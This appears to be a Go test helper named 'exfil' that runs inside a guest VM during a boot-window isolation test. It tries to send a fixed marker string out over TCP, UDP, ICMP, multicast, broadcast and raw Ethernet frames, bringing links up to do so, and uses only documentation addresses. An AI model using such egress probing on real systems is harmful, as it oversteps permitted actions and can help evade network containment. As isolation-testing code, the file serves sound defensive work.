// Command exfil runs in the guest of the boot-window test and tries to get bytes out, each way once:
// connections and datagrams to places outside, and raw frames on every link that there is. It says
// what became of each try, and ends with 0 whatever that was: the test counts frames.
//
// With an argument it goes on for so many seconds, and with a second one it pauses for so many
// milliseconds between its tries. It is part of a test, not of any image.
package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"os"
	"strconv"
	"time"

	"golang.org/x/sys/unix"
)

// Where it sends to: addresses that RFC 5737 and RFC 3849 keep for documents, and groups that
// every network carries. The test looks for them.
var dials = []struct{ network, address string }{
	{"tcp4", "198.51.100.7:443"},
	{"udp4", "198.51.100.8:53"},
	{"udp4", "224.0.0.251:5353"},
	{"udp4", "255.255.255.255:9999"},
	{"tcp6", "[2001:db8::7]:443"},
	{"udp6", "[2001:db8::8]:53"},
	{"ip4:icmp", "198.51.100.9"},
}

// etherTest is the EtherType of raw frames: local experiments (IEEE 802).
const etherTest = 0x88B5

func main() {
	span, pause := argument(1, time.Second), argument(2, time.Millisecond)
	for n, end := 1, time.Now().Add(span); ; n++ {
		said := try()
		if !time.Now().Before(end) {
			fmt.Printf("tries %d\n%s", n, said)
			return
		}
		time.Sleep(pause)
	}
}

// argument n is a number of units; none is 0.
func argument(n int, unit time.Duration) time.Duration {
	if len(os.Args) <= n {
		return 0
	}
	v, err := strconv.Atoi(os.Args[n])
	if err != nil {
		fmt.Fprintln(os.Stderr, "exfil:", err)
		os.Exit(2)
	}
	return time.Duration(v) * unit
}

// try tries everything once, and returns a line for each.
func try() (said string) {
	for _, d := range dials {
		said += fmt.Sprintf("%s %s: %v\n", d.network, d.address, dial(d.network, d.address))
	}
	links, err := os.ReadDir("/sys/class/net")
	if err != nil {
		said += fmt.Sprintf("links: %v\n", err)
	}
	for _, l := range links {
		said += fmt.Sprintf("raw %s: %v\n", l.Name(), raw(l.Name()))
	}
	return said
}

func dial(network, address string) error {
	c, err := net.DialTimeout(network, address, 300*time.Millisecond)
	if err != nil {
		return err
	}
	defer c.Close()
	_, err = c.Write([]byte("\x08\x00holdfast"))
	return err
}

// raw sets a link up, if it may, and sends a frame of its own making on it.
func raw(link string) error {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return fmt.Errorf("socket: %w", err)
	}
	defer unix.Close(fd)
	ifr, err := unix.NewIfreq(link)
	if err != nil {
		return err
	}
	if err := unix.IoctlIfreq(fd, unix.SIOCGIFINDEX, ifr); err != nil {
		return fmt.Errorf("index: %w", err)
	}
	index := int(ifr.Uint32())
	if err := setUp(fd, ifr); err != nil {
		fmt.Printf("up %s: %v\n", link, err)
	}
	frame := append([]byte("\xff\xff\xff\xff\xff\xff\x02\x00\x00\x00\x00\x01"), byte(etherTest>>8), byte(etherTest&0xFF))
	frame = append(frame, make([]byte, 46)...)
	to := &unix.SockaddrLinklayer{Ifindex: index, Protocol: binary.BigEndian.Uint16([]byte{etherTest & 0xFF, etherTest >> 8}), Halen: 6}
	return unix.Sendto(fd, frame, 0, to)
}

func setUp(fd int, ifr *unix.Ifreq) error {
	if err := unix.IoctlIfreq(fd, unix.SIOCGIFFLAGS, ifr); err != nil {
		return err
	}
	ifr.SetUint16(ifr.Uint16() | unix.IFF_UP)
	return unix.IoctlIfreq(fd, unix.SIOCSIFFLAGS, ifr)
}
